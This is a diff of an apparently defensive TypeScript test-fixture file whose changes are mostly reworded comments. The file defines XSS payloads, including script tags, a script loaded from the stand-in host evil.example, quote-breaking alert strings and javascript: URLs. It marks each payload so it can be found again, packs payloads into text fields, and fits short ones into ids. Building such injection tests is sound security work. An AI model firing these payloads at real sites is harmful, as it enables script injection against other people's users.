@@ -1,10 +1,10 @@
-/** Where everything hostile points to: a name nobody answers to. */
+/** The target of all hostile addresses: a name that doesn't resolve. */
 export const EVIL_HOST = 'evil.example'
 
-/** By which a payload is found again in whatever became of it. */
+/** The mark by which a payload is found again wherever it ended up. */
 const markOf = (number: number): string => `p${number}p`
 
-/** Ways to get script, elements, addresses or code into a page through a text, one line each. */
+/** Ways to get script, elements, addresses or code into a page through a text, one per line. */
 const SHAPES: ((mark: string) => string)[] = [
   (p) => `<script>alert('${p}')</script>`,
   (p) => `<ScRiPt src=//evil.example/${p}></sCrIpT>`,
@@ -108,31 +108,29 @@ const SHAPES: ((mark: string) => string)[] = [
   (p) => `';alert('${p}');//";alert('${p}');//`,
 ]
 
-/** A hundred, each with a mark of its own. */
 export const PAYLOADS: readonly string[] = SHAPES.map((shape, number) => shape(markOf(number)))
 
-/** As much as the shortest texts of the service keep that a person reads as a sentence. */
+/** The longest text that the shortest sentence fields of the provider keep. */
 const MAX_GROUP = 290
 
-/** The payloads in as few texts as each fits into one. */
+/** The payloads, packed into as few texts as possible. */
 export const GROUPS: readonly string[] = PAYLOADS.reduce<string[]>((groups, payload) => {
   const last = groups.at(-1)
   if (last === undefined || Array.from(`${last} ${payload}`).length > MAX_GROUP) return [...groups, payload]
   return [...groups.slice(0, -1), `${last} ${payload}`]
 }, [])
 
-/** Those that fit into an id, an alias or the name of a page: a longer one is unreadable. */
+/** Those that fit into an id, an alias or a page name: longer ones are unreadable. */
 const SHORT_PAYLOADS = PAYLOADS.filter((payload) => payload.length <= 90)
 
-/** The id of a hostile tile: of the group of texts `group`, doing what its `kind` does. */
+/** The id of a hostile tile: of the group of texts `group`, with the action of its `kind`. */
 export const hostileId = (group: number, kind: number): string => `${shortPayload(group, kind)} ${group} ${kind}`
 export const shortPayload = (group: number, kind: number): string =>
   SHORT_PAYLOADS[(group * 8 + kind) % SHORT_PAYLOADS.length]!
 
-/** Whose marks are in a text. */
 export const marksIn = (text: string): number[] => [...text.matchAll(/p(\d+)p/g)].map(([, number]) => Number(number))
 
-/** Addresses that are no picture and no link for a customer, each with a mark. */
+/** Addresses that are neither a picture nor a link for a customer, each with a mark. */
 export const ADDRESSES: readonly string[] = [
   (p: string) => `javascript:alert('${p}')`,
   (p: string) => `JaVaScRiPt:alert('${p}')`,
